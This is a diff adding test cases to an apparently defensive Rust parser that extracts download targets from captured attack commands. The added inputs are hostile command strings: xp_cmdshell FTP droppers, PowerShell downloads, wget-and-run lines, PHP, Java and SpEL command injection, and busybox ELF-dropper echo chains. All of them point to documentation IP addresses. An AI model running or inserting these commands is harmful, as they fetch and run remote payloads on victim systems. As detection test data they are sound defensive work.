@@ -153,4 +153,18 @@ forms! {
     inline_echo_ne_hex_chunks: b"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01' > .s\r\n/bin/busybox echo -ne '\\x01\\x00\\x00' >> .s\r\n/bin/busybox chmod 777 .s; ./.s > dvrHelper\r\n" => ["inline .s 9"];
     inline_printf_octal_truncate_and_append: b"printf 'junk' > /tmp/b; printf '\\177ELF\\001' > /tmp/b; printf '\\x41' >> /tmp/b" => ["inline b 6"];
     inline_echo_e_octal_zero_prefix: b"echo -e '\\0177ELF' >> x.bin" => ["inline x.bin 5"];
+    literal_xp_cmdshell_ftp_script_one_line_each: b"EXEC master.dbo.xp_cmdshell 'echo open 192.0.2.50 >c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'echo user a b>>c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'echo get q.exe>>c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'ftp -n -s:c:\\f.txt'" => ["ftp 192.0.2.50 - a b q.exe q.exe"];
+    literal_xp_cmdshell_quote_glued_to_echo: b"EXEC master..xp_cmdshell 'echo open 192.0.2.51 > f&echo user a b>>f&echo get x.exe>>f&ftp -s:f'" => ["ftp 192.0.2.51 - a b x.exe x.exe"];
+    literal_xp_cmdshell_doubled_quotes_powershell: b"EXEC xp_cmdshell N'powershell -c \"(New-Object Net.WebClient).DownloadFile(''http://192.0.2.59/d.exe'',''C:\\d2.exe'')\"'" => ["http 192.0.2.59 - - - /d.exe d2.exe"];
+    literal_bash_c_escaped_quotes: b"bash -c \"curl -o \\\"/tmp/bb\\\" http://192.0.2.52/b\"" => ["http 192.0.2.52 - - - /b bb"];
+    literal_sh_c_single_quotes: b"sh -c 'wget http://192.0.2.61/s -O /tmp/ss'" => ["http 192.0.2.61 - - - /s ss"];
+    literal_json_value_escapes: b"{\"cmd\":\"wget -O \\\"/tmp/x\\\" http:\\/\\/192.0.2.53\\/y; sh /tmp/x\"}" => ["http 192.0.2.53 - - - /y x"];
+    literal_powershell_command_escaped_quotes: b"powershell -nop -w hidden -command \"iwr http://192.0.2.54/pw.exe -OutFile \\\"C:\\Users\\Public\\pw2.exe\\\"\"" => ["http 192.0.2.54 - - - /pw.exe pw2.exe"];
+    literal_php_passthru: b"<?php passthru(\"wget -O \\\"/tmp/pp\\\" http://192.0.2.55/p\"); ?>" => ["http 192.0.2.55 - - - /p pp"];
+    literal_php_system_single_quotes: b"<?php system('tftp -g -r t.sh -l /tmp/t2 192.0.2.62'); ?>" => ["tftp 192.0.2.62 - - - t.sh t2"];
+    literal_java_runtime_exec: b"Runtime.getRuntime().exec(\"curl -o \\\"/tmp/jj\\\" http://192.0.2.56/j\")" => ["http 192.0.2.56 - - - /j jj"];
+    literal_spel_runtime_exec: b"${T(java.lang.Runtime).getRuntime().exec(\"curl -o /tmp/sp http://192.0.2.63/s\")}" => ["http 192.0.2.63 - - - /s sp"];
+    literal_python_os_system: b"import os;os.system('wget -O /tmp/oo http://192.0.2.57/o')" => ["http 192.0.2.57 - - - /o oo"];
+    literal_xml_cmd_c_entities: b"<string>cmd /c \"echo open 192.0.2.58&gt;s&amp;echo get w.exe&gt;&gt;s&amp;ftp -A -s:s\"</string>" => ["ftp 192.0.2.58 - - - w.exe w.exe"];
+    literal_curl_cookie_jar_is_no_runner: b"curl -c 'jar' http://192.0.2.64/cc" => ["http 192.0.2.64 - - - /cc cc"];
 }
